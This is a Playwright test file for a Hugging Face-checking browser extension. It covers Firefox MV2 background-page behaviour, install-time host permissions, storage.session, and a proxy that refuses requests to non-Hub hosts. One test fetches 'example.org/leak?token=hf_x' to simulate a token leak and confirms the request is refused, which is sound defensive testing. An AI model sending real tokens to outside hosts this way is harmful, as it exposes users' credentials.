import { expect, test } from "../fixtures";
import { finalLevel, HUB, waitUntil } from "../driver";
import { extensionProbe } from "./puppeteer-driver";

/**
 * What Firefox does differently and the extension relies on (run in the `firefox` project only;
 * playwright.config.ts keeps tests/e2e/firefox/ out of the chromium project). The shared scenarios
 * in tests/e2e/*.spec.ts cover the behaviour itself in both browsers; these check the platform
 * under it: Firefox gets an MV2 build (wxt build -b firefox), so a background page instead of a
 * service worker, host access granted at install, and storage.session as Firefox ships it.
 */

test.describe("Firefox MV2 platform", () => {
  test("the background is an MV2 background page (not a service worker) and answers the content script", async ({ driver, firefoxBrowser }) => {
    const probe = await extensionProbe(firefoxBrowser);
    const background = await probe.evaluate(`(async () => {
      const page = await browser.runtime.getBackgroundPage();
      const manifest = browser.runtime.getManifest();
      return {
        manifestVersion: manifest.manifest_version,
        scripts: (manifest.background.scripts ?? []).map((script) => new URL(script).pathname),
        serviceWorker: manifest.background.service_worker ?? null,
        persistent: manifest.background.persistent ?? null,
        path: page.location.pathname,
        hasDocument: typeof page.document === "object",
        hasStorage: typeof page.browser?.storage?.local?.get === "function",
      };
    })()`);
    expect(background).toEqual({
      manifestVersion: 2,
      scripts: ["/background.js"],
      serviceWorker: null,
      // Persistent (the manifest does not say `false`): the page keeps the background's memory (tab
      // verdicts, fact cache) for the whole session, which Chromium's service worker does not promise.
      persistent: true,
      path: "/_generated_background_page.html",
      hasDocument: true,
      hasStorage: true,
    });
    // The round trip content script -> background page -> fake Hub -> badge.
    await driver.goto(`${HUB}/sentinel-verified/tiny-safetensors`);
    expect(await finalLevel(driver)).toBe("ok");
  });

  test("every host the manifest asks for is granted at install, with no prompt, and nothing more", async ({ firefoxBrowser }) => {
    const probe = await extensionProbe(firefoxBrowser);
    const { asked, granted, containsAll } = (await probe.evaluate(`(async () => {
      const manifest = browser.runtime.getManifest();
      // MV2 lists hosts among permissions; MV3 would put them in host_permissions, and Firefox
      // treats those as opt-in (not granted until the user agrees), so content scripts would not run.
      const asked = manifest.permissions.filter((p) => p.includes("://"));
      const all = await browser.permissions.getAll();
      return { asked, granted: all.origins, containsAll: await browser.permissions.contains({ origins: asked }) };
    })()`)) as { asked: string[]; granted: string[]; containsAll: boolean };
    expect(asked).toEqual(expect.arrayContaining(["https://huggingface.co/*", "https://hf.co/*"]));
    expect(containsAll).toBe(true);
    expect([...granted].sort()).toEqual([...asked].sort());
  });

  test("storage.session exists in Firefox MV2, is shared by the background and extension pages, and is not storage.local", async ({ firefoxBrowser }) => {
    const probe = await extensionProbe(firefoxBrowser);
    const seen = await probe.evaluate(`(async () => {
      await browser.storage.session.set({ "platform-check": "in memory" });
      const background = await browser.runtime.getBackgroundPage();
      const fromBackground = await background.browser.storage.session.get("platform-check");
      const inLocal = await browser.storage.local.get("platform-check");
      await browser.storage.session.remove("platform-check");
      const afterRemove = await background.browser.storage.session.get("platform-check");
      return { fromBackground, inLocal, afterRemove };
    })()`);
    expect(seen).toEqual({ fromBackground: { "platform-check": "in memory" }, inLocal: {}, afterRemove: {} });
  });
});

test.describe("the proxy that stands in for DNS", () => {
  test("a request to a host that is not the Hub reaches the fake Hub's log and is refused, as in Chromium", async ({ driver, firefoxBrowser }) => {
    // Shared scenarios check "the token went nowhere else" in the fake Hub's log: that only means
    // something if other hosts land there too, as they do in Chromium with MAP *.
    await driver.goto(`${HUB}/sentinel-verified/tiny-safetensors`);
    const status = await driver.evaluate<number>(`fetch("https://example.org/leak?token=hf_x", { mode: "cors" }).then((r) => r.status, () => -1)`);
    await waitUntil(() => Promise.resolve(driver.hub.log.some((entry) => entry.host === "example.org")), "example.org in the Hub's log");
    const entry = driver.hub.log.find((logged) => logged.host === "example.org");
    expect(entry).toMatchObject({ path: "/leak?token=hf_x", status: 421 });
    // Refused: the page sees the 421 (or a CORS failure), never a real example.org.
    expect([421, -1]).toContain(status);
    expect(firefoxBrowser.proxy.refused).toEqual(expect.arrayContaining([expect.objectContaining({ host: "example.org", kind: "other" })]));
  });

  test("browsing Hub pages and opening the popup sends nothing to other hosts", async ({ driver, firefoxBrowser }) => {
    await driver.goto(`${HUB}/google-bert/bert-base-uncased`);
    await finalLevel(driver);
    await driver.goto("https://hf.co/spaces/space-builder/docker-oauth");
    await finalLevel(driver);
    await driver.openExtensionPage("popup.html");
    const hosts = new Set(driver.hub.log.map((entry) => entry.host));
    for (const host of hosts) expect(host === "huggingface.co" || host === "hf.co" || host.endsWith(".hf.co")).toBe(true);
    expect(firefoxBrowser.proxy.refused.filter((refused) => refused.kind === "other")).toEqual([]);
  });
});
